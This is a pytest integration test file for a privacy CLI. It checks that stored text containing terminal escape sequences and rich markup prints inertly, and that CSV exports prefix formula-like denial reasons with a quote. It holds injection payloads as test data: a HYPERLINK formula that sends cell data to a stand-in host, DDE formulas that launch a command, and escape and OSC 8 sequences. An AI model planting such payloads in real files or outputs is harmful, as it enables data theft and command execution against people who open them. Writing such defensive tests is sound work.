"""Text from outside (an API's error message, an operator's reason, a handler's error) is
printed as the characters it is: never read as rich markup, never an escape sequence that
reaches the terminal. Through the console script, on a terminal rich colours (so that markup
would turn into escape codes if it were read), with the text written to the stores directly:
the CLI is safe whatever is stored."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import boto3
import pytest

from bwp_privacy_cli.local import on_failure_record
from bwp_sandbox.admin import admin_client
from bwp_sandbox.sandbox import Sandbox
from bwp_sandbox.timeline import Timeline
from tests.cli.conftest import Run
from tests.conftest import load_event
from tests.integration.reaction_helpers import BP, failed_task, open_case

pytestmark = pytest.mark.integration

TASK = "c-hostile"
#: A closing tag with no opening one (rich raised MarkupError: the command failed), a link in
#: rich markup, a clear-screen sequence, an OSC 8 hyperlink, a bell and a C1 CSI.
HOSTILE = (
    "ends [/link] or [link=https://evil.test]click[/link] \x1b[2J then"
    " \x1b]8;;https://evil.test\x1b\\here\x1b]8;;\x1b\\ \x07\x9b31m done"
)
#: What is printed: the same characters, each run of control characters one space.
SHOWN = (
    "ends [/link] or [link=https://evil.test]click[/link]  [2J then"
    "  ]8;;https://evil.test \\here ]8;; \\  31m done"
)
#: A terminal as rich sees one: colours on, so markup read as markup would print escape codes.
TERMINAL = {"TERM": "xterm-256color", "FORCE_COLOR": "1", "TTY_COMPATIBLE": "1", "COLUMNS": "400"}
#: rich's own colours and styles (Select Graphic Rendition): the only escape codes allowed.
SGR = re.compile(r"\x1b\[[0-9;]*m")
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def _inert(output: str) -> str:
    """``output`` without rich's own styling; fails on any other control character (an escape
    sequence, an OSC 8 link from markup or from the text)."""
    assert "\x1b[" in output, "not rendered as on a terminal: the test would prove nothing"
    text = SGR.sub("", output)
    assert CONTROL.search(text) is None, repr(text)
    return text


def _store_hostile_text(sandbox: Sandbox) -> None:
    """The failure's error message, codes and status, the case's reason and a parked message's
    error: written directly, as if the stores held them whatever the API boundary let in."""
    dynamodb = admin_client("dynamodb")
    failures = sandbox.stack.failures_table_name
    items = dynamodb.scan(
        TableName=failures,
        FilterExpression="taskId = :task",
        ExpressionAttributeValues={":task": {"S": TASK}},
    )["Items"]
    assert items, "the failure was not stored"
    for item in items:
        item["errors"] = {
            "L": [{"M": {"code": {"S": "ORDERS_NOT_CLOSED"}, "message": {"S": HOSTILE}}}]
        }
        item["errorCodes"] = {"L": [{"S": "ORDERS_NOT_CLOSED"}, {"S": HOSTILE}]}
        item["status"] = {"S": HOSTILE}
        dynamodb.put_item(TableName=failures, Item=item)

    # Operators may not write cases (README's guard): the reaction, which writes them, does.
    credentials = sandbox.reaction.credentials
    reaction = boto3.client(
        "dynamodb",
        endpoint_url=sandbox.aws.url,
        region_name="us-east-1",
        aws_access_key_id=credentials["AWS_ACCESS_KEY_ID"],
        aws_secret_access_key=credentials["AWS_SECRET_ACCESS_KEY"],
        aws_session_token=credentials["AWS_SESSION_TOKEN"],
    )
    cases = sandbox.stack.cases_table_name
    key = {"pk": {"S": f"CASE#{TASK}"}}
    item = reaction.get_item(TableName=cases, Key=key, ConsistentRead=True)["Item"]
    body: dict[str, Any] = json.loads(item["body"]["S"])
    body["reason"] = HOSTILE
    body["transitions"][-1]["reason"] = HOSTILE
    item["body"] = {"S": json.dumps(body)}
    reaction.put_item(TableName=cases, Item=item)

    admin_client("sqs").send_message(
        QueueUrl=sandbox.stack.on_failure_queue_url,
        MessageBody=json.dumps(on_failure_record(load_event(), RuntimeError(HOSTILE), 3)),
    )


def test_stored_text_prints_as_plain_text_without_control_characters(
    run_cli: Run, sandbox: Sandbox
) -> None:
    sandbox.emulator.set_shopper(BP, "hostile@example.com", orders_open_days=30)
    sandbox.emulator.add_task(
        BP,
        {
            "taskId": TASK,
            "status": "FAILED",
            "holdingPeriod": 0,
            "dataSubject": {"type": "SHOPPER", "email": "hostile@example.com"},
            # The API's own answer holds it too (`task show` prints what the API says).
            "errors": [{"code": "ORDERS_NOT_CLOSED", "message": HOSTILE}],
        },
    )
    open_case(sandbox, Timeline(sandbox), TASK)
    _store_hostile_text(sandbox)

    commands: list[tuple[str, ...]] = [
        ("failures", "show", TASK),
        ("failures", "list"),
        ("dlq", "list"),
        ("cases", "show", TASK),
        ("task", "show", TASK),
    ]
    for command in commands:
        result = run_cli(*command, env=TERMINAL)
        assert result.exit_code == 0, (command, result.stderr)
        text = _inert(result.stdout)
        # Printed as written: neither a tag read (and dropped) nor a link made of it.
        assert "[/link]" in text, (command, text)
        assert "[link=https://evil.test]click[/link]" in text, (command, text)
        if command[0] != "task":
            # The API boundary may clean what it lets in; the stores hold it whole.
            assert SHOWN in text, (command, text)


#: Denial bases an operator (or someone who got hold of the command) may type: each one a
#: formula to a spreadsheet that opens the request log.
FORMULAS = {
    "c-eq": '=HYPERLINK("https://evil.test/?d="&A1,"Re-authenticate")',
    "c-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "c-plus": "+1+cmd|' /C calc'!A0",
    "c-minus": "-2+3+cmd|' /C calc'!A0",
    "c-plain": "identity not verified = no deletion",
}


def test_the_csv_request_log_never_holds_a_formula(
    run_cli: Run, invoke: Run, sandbox: Sandbox
) -> None:
    timeline = Timeline(sandbox)
    for case_id, basis in FORMULAS.items():
        failed_task(sandbox, case_id, "ORDERS_NOT_CLOSED", email=f"{case_id}@example.com")
        open_case(sandbox, timeline, case_id)
        closed = invoke(
            "cases",
            "close",
            case_id,
            "--as",
            "denied",
            "--denied-because",
            "other",
            f"--reason={basis}",
        )
        assert closed.exit_code == 0, closed.stderr

    exported = run_cli("cases", "export", "--since", "365d", "--format", "csv")
    assert exported.exit_code == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout, newline=""), strict=True))
    bases = {row["case_id"]: row["denial_basis"] for row in rows}
    # A single quote first (OWASP): the spreadsheet shows the text, runs nothing.
    assert bases == {
        case_id: basis if case_id == "c-plain" else "'" + basis
        for case_id, basis in FORMULAS.items()
    }
    # JSON Lines is data for a script: the basis as written.
    lines = run_cli("cases", "export", "--since", "365d", "--format", "jsonl")
    assert lines.exit_code == 0, lines.stderr
    written = {r["case_id"]: r["denial_basis"] for r in map(json.loads, lines.stdout.splitlines())}
    assert written == FORMULAS
